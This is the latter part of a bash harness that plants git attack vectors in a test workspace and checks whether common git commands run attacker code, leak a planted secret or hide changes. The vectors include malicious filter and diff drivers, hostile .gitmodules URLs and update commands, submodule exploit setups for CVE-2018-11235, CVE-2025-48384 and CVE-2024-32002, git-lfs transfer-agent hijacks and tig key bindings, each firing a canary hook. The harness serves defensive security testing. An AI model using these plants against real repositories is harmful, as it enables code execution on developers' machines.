#--------------------------------------------------------------- I. attributes, .gitmodules
V a_attr_global x DRIVERS "tracked .gitattributes turns on a driver from the developer's global config that runs an in-tree program"
h_a_attr_global() { git config -f "$B/home/.gitconfig" filter.tool.clean './tools/clean'; git config -f "$B/home/.gitconfig" filter.tool.smudge './tools/clean'; git config -f "$B/home/.gitconfig" diff.tool.textconv './tools/x'; git config -f "$B/home/.gitconfig" merge.tool.driver './tools/x %A'; }
p_a_attr_global() { mkdir -p "$W/tools"; cp "$W/.v/xcat" "$W/tools/clean"; cp "$W/.v/x" "$W/tools/x"; attr '* filter=tool diff=tool merge=tool'; }; t_a_attr_global() { T status; T diff; T log -p -1; T merge conf; T checkout -q topic; T blame a.txt; T stash; T add -A; }
V a_info_attr x INFOATTR 'the same through .git/info/attributes (never seen in status or review)'
h_a_info_attr() { h_a_attr_global; }
p_a_info_attr() { mkdir -p "$W/tools" "$W/.git/info"; cp "$W/.v/xcat" "$W/tools/clean"; cp "$W/.v/x" "$W/tools/x"; echo '* filter=tool diff=tool merge=tool' >>"$W/.git/info/attributes"; touch "$W/a.txt"; }; t_a_info_attr() { T status; T diff; T log -p -1; T merge conf; }
V a_info_swap x INFOATTR 'info/ directory renamed away and replaced by a prepared one'
h_a_info_swap() { h_a_attr_global; }
p_a_info_swap() { mkdir -p "$W/tools" "$W/.v/info"; cp "$W/.v/xcat" "$W/tools/clean"; cp "$W/.v/x" "$W/tools/x"; echo '* filter=tool diff=tool merge=tool' >"$W/.v/info/attributes"; mv "$W/.git/info" "$W/.v/oi" && mv "$W/.v/info" "$W/.git/info"; touch "$W/a.txt"; }; t_a_info_swap() { T status; T diff; }
V a_hide d HIDEATTR 'attributes -diff / binary / export-ignore / linguist: change not shown in diffs'
p_a_hide() { mkdir -p "$W/.git/info"; echo '* -diff' >>"$W/.git/info/attributes"; echo evil >>"$W/a.txt"; }; t_a_hide() { T diff; }
k_a_hide() { grep -q '^+evil' "$B/out" || echo 'FAKE(diff hidden)'; }
V a_exclude d EXCLUDE '.git/info/exclude hides new files'
p_a_exclude() { echo '*.sh' >>"$W/.git/info/exclude"; echo evil >"$W/new.sh"; }; t_a_exclude() { T status --porcelain; }
k_a_exclude() { grep -q new.sh "$B/out" || echo 'FAKE(new file not shown)'; }
V a_sparse d EXCLUDE 'info/sparse-checkout changed, host uses sparse checkout: files vanish at the next checkout'
h_a_sparse() { (cd "$H" && git stash -q && git sparse-checkout init --no-cone && git sparse-checkout set '/*') >/dev/null 2>&1; }
p_a_sparse() { printf '/*\n!/dir/\n' >"$W/.git/info/sparse-checkout"; }; t_a_sparse() { T checkout -q topic; T pull -q --no-rebase; T sparse-checkout reapply; }
k_a_sparse() { [ -e "$H/dir/b.txt" ] || echo 'FAKE(tracked file removed)'; }
V m_update n - '.gitmodules submodule.<n>.update = !cmd'
p_m_update() { printf '[submodule "sub"]\n\tupdate = !%s\n' "$X" >>"$W/.gitmodules"; }; t_m_update() { TX 'submodule update' 'git -C sub checkout -q HEAD~1; git submodule update'; T submodule update --init; T submodule sync; T status; }
V m_url n - '.gitmodules url = ext:: / -option / file://'
p_m_url() { printf '[submodule "e"]\n\tpath = e\n\turl = ext::%s\n[submodule "f"]\n\tpath = f\n\turl = --upload-pack=%s\n[submodule "g"]\n\tpath = g\n\turl = %s/.v/none\n' "$X" "$X" "$H" >>"$W/.gitmodules"; local h; h=$(git -C "$W/sub" rev-parse HEAD); py idx "$W/.git/index" 160000,$h,e 160000,$h,f 160000,$h,g; }; t_m_url() { T submodule update --init; T submodule update --init --recursive; T status; }
V m_name n - '.gitmodules name with ../ (CVE-2018-11235)'
p_m_name() { mkdir -p "$W/.v/m"; evilgit "$W/.v/m/x" "$H/.v/m/x"; printf '[submodule "../../.v/m/x"]\n\tpath = e\n\turl = ./x\n' >>"$W/.gitmodules"; py idx "$W/.git/index" "160000,$(git -C "$W/sub" rev-parse HEAD),e"; }; t_m_name() { T submodule update --init; T status; }
V m_cr n - '.gitmodules path ending in CR + symlink (CVE-2025-48384)'
h_m_cr() { (mkdir "$B/es" && cd "$B/es" && git init -q -b main && cp "$B/home/payload" post-checkout && sed -i "s,@C@,$C,;s,@T@,cr," post-checkout && chmod +x post-checkout && git add . && git commit -qm e && git clone -q --bare . "$B/evil-sub.git") >/dev/null 2>&1; }
p_m_cr() { local cr=$'\r'; printf '[submodule "e"]\n\tpath = "e%s"\n\turl = %s/evil-sub.git\n' "$cr" "$B" >>"$W/.gitmodules"; ln -s .git/modules/e/hooks "$W/e"; py idx "$W/.git/index" "160000,$(git -C "$B/evil-sub.git" rev-parse main),e$cr"; }; t_m_cr() { T -c protocol.file.allow=always submodule update --init; }
V m_symlink n - 'submodule path through a symlink into .git (CVE-2024-32002)'
h_m_symlink() { h_m_cr; }
p_m_symlink() { printf '[submodule "e"]\n\tpath = L/hooks\n\turl = %s/evil-sub.git\n' "$B" >>"$W/.gitmodules"; ln -s .git "$W/L"; rm -rf "$W/.git/hooks"; py idx "$W/.git/index" "160000,$(git -C "$B/evil-sub.git" rev-parse main),L/hooks"; }; t_m_symlink() { TX 'submodule update --init; checkout' 'git -c protocol.file.allow=always submodule update --init; git checkout -qf topic'; }
V m_ignore d REPORT '.gitmodules ignore = all hides submodule changes'
p_m_ignore() { printf '[submodule "sub"]\n\tignore = all\n' >>"$W/.gitmodules"; echo evil >>"$W/sub/s.txt"; }; t_m_ignore() { T status --porcelain; }
k_m_ignore() { grep -q ' sub$' "$B/out" || echo 'FAKE(submodule change hidden)'; }
V m_urlswap d REPORT '.gitmodules url changed: submodule sync/update fetches from the attacker'
p_m_urlswap() { sed -i "s,url = .*,url = $B/evil-sub.git," "$W/.gitmodules"; }; t_m_urlswap() { T submodule sync; }
k_m_urlswap() { git -C "$H/sub" config remote.origin.url | grep -q evil-sub && echo 'FAKE(url now attacker)'; }
#--------------------------------------------------------------- J. third-party readers of the gitdir (need VEC_PATH)
lfsrepo() { ( cd "$H" && export PATH="$PATH:${VEC_PATH:-}" && git lfs install --local >/dev/null && git stash -q && git lfs track '*.bin' && echo big >x.bin && git add .gitattributes x.bin && git commit -qm lfs ) >/dev/null 2>&1; }
V L_lfs_cfg x CONFIG 'git-lfs: lfs.standalonetransferagent + lfs.customtransfer.*.path / lfs.extension.*.clean in .git/config'
h_L_lfs_cfg() { lfsrepo; }
p_L_lfs_cfg() { printf '[lfs]\n\tstandalonetransferagent = v\n[lfs "customtransfer.v"]\n\tpath = %s\n[lfs "extension.e"]\n\tclean = %s %%f\n\tsmudge = %s %%f\n\tpriority = 0\n' "$X" "$XC" "$XC" | cfg; echo big2 >"$W/x.bin"; }; t_L_lfs_cfg() { T status; T add x.bin; T push -q origin main:nb; TX 'lfs pull' 'rm -rf .git/lfs/objects; git lfs pull'; TX 'checkout after losing the object' 'rm -rf .git/lfs/objects x.bin; git checkout x.bin'; }
V L_lfs_lfsconfig n REPORT 'git-lfs: the same keys in tracked .lfsconfig (unsafe keys ignored)'
h_L_lfs_lfsconfig() { lfsrepo; }
p_L_lfs_lfsconfig() { printf '[lfs]\n\tstandalonetransferagent = v\n[lfs "customtransfer.v"]\n\tpath = %s\n[lfs "extension.e"]\n\tclean = %s %%f\n\tpriority = 0\n' "$X" "$XC" >"$W/.lfsconfig"; echo big2 >"$W/x.bin"; }; t_L_lfs_lfsconfig() { T status; T add x.bin; T push -q origin main:nb; TX 'lfs pull' 'rm -rf .git/lfs/objects; git lfs pull'; }
V L_lfs_url d REPORT 'git-lfs: lfs.url in tracked .lfsconfig: uploads go to the attacker'
h_L_lfs_url() { lfsrepo; }
p_L_lfs_url() { printf '[lfs]\n\turl = file://%s/.v/evil-lfs.git\n' "$H" >"$W/.lfsconfig"; git init -q --bare "$W/.v/evil-lfs.git" 2>/dev/null; }; t_L_lfs_url() { TX 'lfs env' 'git lfs env | grep Endpoint'; }
k_L_lfs_url() { grep -q evil-lfs "$B/out" && echo 'FAKE(endpoint)'; }
V L_lfs_store d REPORT 'git-lfs: object in .git/lfs/objects replaced: next checkout writes other content'
h_L_lfs_store() { lfsrepo; }
p_L_lfs_store() { local f; f=$(find "$W/.git/lfs/objects" -type f | head -1); chmod u+w "$f"; printf 'bad\n' >"$f"; rm -f "$W/x.bin"; }; t_L_lfs_store() { T checkout x.bin; }
k_L_lfs_store() { grep -q bad "$H/x.bin" 2>/dev/null && echo 'FAKE(content)'; }
V L_tig x CONFIG 'tig: tig.* section of .git/config binds keys to commands'
p_L_tig() { printf '[tig "bind"]\n\tgeneric = q !%s\n\tmain = q !%s\n' "$X" "$X" | cfg; }; t_L_tig() { TX 'tig, press q (tty)' 'command -v tig >/dev/null && (sleep 3; printf q; sleep 2; printf "\nq\n") | script -qec "timeout --foreground 9 tig" /dev/null'; }
V z_worktree_symlink n - 'working-tree symlinks: checkout/restore/add/clean never follow them outside'
p_z_worktree_symlink() { rm -rf "$W/dir"; ln -s ../home "$W/dir"; rm -f "$W/a.txt"; ln -s ../outside/secret "$W/a.txt"; ln -sfn ../outside/secret "$W/.gitignore"; ln -sfn ../outside/secret "$W/.mailmap"; ln -sfn ../outside/secret "$W/.gitattributes"; }; t_z_worktree_symlink() { T restore .; T add -A; T commit -qam m; T stash; T clean -fdx; T checkout -fq topic; T reset -q --hard; T diff; T archive HEAD; T stash -u; }
EOF_VEC

# ================================================================== fixture
fixture() { # $1 = BASE
  B=$1; H=$B/ws; mkdir -p "$B"
  export HOME=$B/home GIT_CONFIG_NOSYSTEM=1; mkdir -p "$HOME/bin" "$B/outside" "$B/canary"; unset GIT_DIR GIT_WORK_TREE GIT_INDEX_FILE XDG_CONFIG_HOME
  printf '[user]\n\tname = Dev\n\temail = dev@example.org\n[init]\n\tdefaultBranch = main\n[advice]\n\tdetachedHead = false\n[gc]\n\tautoDetach = false\n[maintenance]\n\tautoDetach = false\n' >"$HOME/.gitconfig"
  { for i in $(seq 30); do echo "# skel line $i"; done; echo 'true'; } >"$HOME/.bashrc.skel"; { cat "$HOME/.bashrc.skel"; echo '# own line'; } >"$HOME/.bashrc"
  printf '#!/bin/sh\necho @T@ >>"@C@"\nexit 0\n' >"$HOME/payload"
  echo "TOPSECRET-7f3a-$RANDOM$RANDOM" >"$B/outside/secret"; echo one >"$B/outside/f1"; mkdir -p "$HOME/.ssh"; cp "$B/outside/secret" "$HOME/.ssh/id_ed25519"
  ( cd "$B"; git init -q outside/vic; cd outside/vic; cp ../secret s; git add s; git commit -qm v1; cp ../secret s2; git add s2; git commit -qm v2; git gc -q; git multi-pack-index write; cp .git/objects/pack/multi-pack-index "$B/outside/vic.midx"; rm -f .git/objects/pack/multi-pack-index
    cd "$B"; git init -q --bare -b main sub-up.git; git clone -q sub-up.git s1 2>/dev/null; cd s1; echo s >s.txt; git add .; git commit -qm s1; echo s2 >s.txt; git commit -qam s2; git push -q origin HEAD:main; cd ..; rm -rf s1
    git init -q --bare -b main remote.git; git clone -q remote.git ws 2>/dev/null; cd ws
    git remote set-url origin "file://$B/remote.git"
    printf 'l1\nl2\nl3\nl4\nl5\n' >a.txt; mkdir dir; echo b >dir/b.txt; echo d >dirty.txt; echo '*.ign' >.gitignore; git add .; git commit -qm c1
    git -c protocol.file.allow=always submodule --quiet add "$B/sub-up.git" sub 2>/dev/null; git commit -qm c2
    git branch topic; git branch conf; sed -i s/l3/L3/ a.txt; git commit -qam c3; git tag v1
    git checkout -q topic; echo t >t.txt; git add t.txt; git commit -qm t; git checkout -q conf; sed -i s/l3/C3/ a.txt; git commit -qam conf; git checkout -q main
    git push -q origin main topic conf; git branch -q -u origin/main
    git clone -q "$B/remote.git" "$B/wtclone"; cd "$B/wtclone"; echo r >r.txt; git add r.txt; sed -i s/l5/R5/ a.txt; git commit -qam remote; git push -q origin HEAD:main
    git format-patch -q -1 --stdout origin/topic >"$B/patch"
    cd "$B/ws"; git worktree add -q -b wtb "$B/wt"; [ -n "${VEC_SHOWN:-}" ] || echo '.v/' >>.git/info/exclude; sed -i s/l1/M1/ a.txt; git commit -qm c4 a.txt; echo ddd >>dirty.txt
    git -C "$B/wt" status >/dev/null; git status >/dev/null ) >"$B/fixture.log" 2>&1 || { cat "$B/fixture.log" >&2; exit 2; }
  mkdir "$B/.tmpl"; ( cd "$B"; cp -a ws wt wtclone remote.git sub-up.git home outside patch .tmpl/ ); }
restore() { # [FROM]
  ( cd "$B" && chmod -R u+rwX ws 2>/dev/null; rm -rf wt wtclone remote.git sub-up.git home outside patch es evil-sub.git cl wt2 out .git x.tar.gz x.v x.tar nd home2 && find ws -mindepth 1 -delete && cp -a "${1:-.tmpl}/." . ); mkdir -p "$B/canary"; rm -f "$C"; }
snap() { ( cd "$B" && find home outside wtclone -path '*/.git/index' -prune -o \( -type f -o -type l \) -print0 | sort -z | xargs -0 md5sum 2>/dev/null | grep -v "lesshst\|tig_history\|\.gnupg\|home/bin/ed$" | grep -v 'wtclone/\|home/.gitconfig$\|home/\.bash_history\|gitk' ); }
scan() { # print the objects really stored below $1 (not through alternates or links)
  ( cd "$1" || exit; find . -type f -path './??/*' | sed 's,^\./\(..\)/,\1,' | GIT_DIR="$B/.chk/.git" GIT_OBJECT_DIRECTORY="$1" git cat-file --batch
    [ -L pack ] || for i in pack/*.pack; do [ -f "$i" ] || continue; rm -rf "$B/.chk2"; git init -q "$B/.chk2"
      git -C "$B/.chk2" unpack-objects -q <"$i"; git -C "$B/.chk2" cat-file --batch-all-objects --batch; done ) 2>/dev/null; }
secret_in_tree() { local g s; s=$(cut -c1-14 <"$B/.tmpl/outside/secret"); grep -rqaF "$s" "$H" 2>/dev/null && return 0
  find "$H" -name objects -type d 2>/dev/null | while read -r g; do scan "$g" | grep -qaF "$s" && echo y; done | grep -q y; }

plant_raw() { # W H B C ID
  W=$1 H=$2 B=$3 C=$4; ID=$5; VICSHA=${VICSHA:-$(cat "$B/.vicsha" 2>/dev/null)}; mkx; "p_$ID"; }
known() { # a script that unpacks what an attacker may know of BASE
  printf '%s\n' "mkdir -p '$B' && base64 -d <<'EOF_KNOWN' | tar -xz -C '$B'"
  ( cd "$B" && touch patch && tar -cz home/.bashrc home/.bashrc.skel sub-up.git outside/vic.midx patch .vicsha $([ ! -e evil-sub.git ] || echo evil-sub.git) | base64; echo EOF_KNOWN ); }
tree() { ( cd "$H" && find . -path ./.v -prune -o -printf '%p %y %m %n %l\n' | sort; find . -path ./.v -prune -o -type f -print0 | sort -z | xargs -0 md5sum ) 2>&1; }
enter() { # plants ID inside, the first time; the result is kept for its other triggers
  if [ "$WANT" = 1 ]; then
    local before; before=$(tree); rm -f "$B/.unchanged"
    { known; cat "$SELF"; } | $VEC_ENTER bash -s -- plant-raw "${VEC_WS:-$W}" "$H" "$B" "$C" "$ID" >"$B/plant.log" 2>&1
    [ $? != 125 ] || echo 'none: the start is refused' >"$B/.unchanged"
    [ "$before" != "$(tree)" ] || [ -e "$B/.unchanged" ] || echo 'none: the host sees no change' >"$B/.unchanged"
    rm -rf "$B/.planted"; mkdir "$B/.planted"; ( cd "$B"; cp -a ws wt wtclone remote.git sub-up.git home outside patch $(ls -d es evil-sub.git .git 2>/dev/null) .planted/ )
  else restore .planted; fi; }
one() { # ID WANT -> prints label<TAB>result ; returns 1 when no such trigger
  ID=$1 WANT=$2 C=$B/canary/$1
  [ "$WANT" = 1 ] || [ ! -e "$B/.unchanged" ] || return 1
  [ "$WANT" -le "${VEC_TRIGGERS:-1000}" ] || return 1
  restore; VICSHA=$(git -C "$B/outside/vic" rev-parse HEAD); echo "$VICSHA" >"$B/.vicsha"
  declare -F "h_$ID" >/dev/null && { X=$H/.v/x XC=$H/.v/xcat; "h_$ID" >/dev/null 2>&1; }
  X=$H/.v/x XC=$H/.v/xcat W=$H
  if [ -n "${VEC_MOUNT:-}" ]; then W=$B/mnt; mkdir -p "$W"; $VEC_MOUNT "$H" "$W" >>"$B/mount.log" 2>&1 || { echo "mount failed" >&2; exit 3; }; fi
  if [ -n "${VEC_ENTER:-}" ]; then
    enter; [ ! -e "$B/.unchanged" ] || { printf '%s\t-\n' "$(cat "$B/.unchanged")"; return 0; }
  else ( cd "$W"; export HOME=$B/attacker; mkdir -p "$HOME"; git config --global safe.directory '*'; plant_raw "$W" "$H" "$B" "$C" "$ID" ) >"$B/plant.log" 2>&1; fi
  [ -n "${VEC_MOUNT:-}" ] && [ -z "$(eval echo \${KEEP_$ID:-})" ] && $VEC_UMOUNT "$W" >>"$B/mount.log" 2>&1
  [ "${VEC_KEEPC:-}" ] || rm -f "$C"
  local before after res=; before=$(snap); TN=0; RC=0; VIEW=$W; export VIEW; "t_$ID"
  [ -n "${VEC_MOUNT:-}" ] && [ -n "$(eval echo \${KEEP_$ID:-})" ] && $VEC_UMOUNT "$W" >>"$B/mount.log" 2>&1
  [ $TN -lt $WANT ] && return 1
  [ -s "$C" ] && res="RAN[$(sort -u "$C" | paste -sd, )]"
  after=$(snap); [ "$before" = "$after" ] || res="$res WROTE($(diff <(echo "$before") <(echo "$after") | sed -n 's/^[<>] [0-9a-f]*  //p' | sort -u | head -3 | paste -sd,))"
  case ${CLS_FORCE:-$(eval echo \$CLS_$ID)} in *l*|*w*) secret_in_tree && res="$res LEAK";; esac
  declare -F "k_$ID" >/dev/null && res="$res $("k_$ID")"
  res=${res# }; printf '%s\t%s\n' "$LABEL" "${res:--}"; return 0; }
want() { local g; for g in "${GLOBS[@]}"; do [[ $1 == $g ]] && return 0; done; return 1; }

case ${1:-} in
list) for i in "${IDS[@]}"; do eval "printf '%s\t%s\t%s\t%s\n' $i \"\$CLS_$i\" \"\$RULE_$i\" \"\$DESC_$i\""; done;;
fixture) fixture "$(mkdir -p "$2" && cd "$2" && pwd -P)"; echo "$B/ws";;
prepare) B=$(cd "$2" && pwd -P); H=$B/ws; C=$B/canary/$3; X=$H/.v/x XC=$H/.v/xcat; export HOME=$B/home GIT_CONFIG_NOSYSTEM=1; declare -F "h_$3" >/dev/null && "h_$3";;
plant-raw) shift; plant_raw "$@";;
py) shift; py "$@";;
plant) B=$(cd "$2" && pwd -P); H=$B/ws; C=$B/canary/$3; git -C "$B/outside/vic" rev-parse HEAD >"$B/.vicsha"; plant_raw "${4:-$H}" "$H" "$B" "$C" "$3";;
plant-in) H=$(cd "$2" && pwd -P); plant_raw "$H" "$H" "$(dirname "$H")" "$4" "$3";;
trigger) B=$(cd "$2" && pwd -P); H=$B/ws; ID=$3; C=$B/canary/$ID; X=$H/.v/x; n=1; while :; do WANT=$n TN=0; rm -f "$C"; "t_$ID"; [ $TN -lt $n ] && break; printf '%s\t%s\n' "$LABEL" "$([ -s "$C" ] && echo RAN || echo -)"; n=$((n+1)); done;;
run) shift; B=; [ "${1:-}" = -b ] && { B=$2; shift 2; }; B=${B:-$(mktemp -d)}; mkdir -p "$B"; B=$(cd "$B" && pwd -P); GLOBS=("$@"); [ $# = 0 ] && GLOBS=('*')
  [ -d "$B/.tmpl" ] || fixture "$B"; H=$B/ws; export HOME=$B/home GIT_CONFIG_NOSYSTEM=1; git init -q "$B/.chk" 2>/dev/null; unset GIT_DIR
  echo "# $("$GITBIN" version), base $B" ; fired=0
  for i in "${IDS[@]}"; do want "$i" || continue; n=1; f=0
    [ -z "${VEC_ENTER:-}" ] || [ -z "$(eval echo \${KEEP_$i:-})" ] || continue
    while r=$(one "$i" $n); do printf '%s\t%s\t%s\n' "$i" "$(eval echo \$CLS_$i)" "$r"; case $r in *RAN*|*LEAK*|*WROTE*) f=1;; esac; n=$((n+1)); done
    case "$(eval echo \$CLS_$i)" in x|l|w|n) fired=$((fired+f));; esac; done
  echo "# fired: $fired"; exit $((fired>250?250:fired));;
*) sed -n '2,23p' "$SELF"; exit 64;;
esac
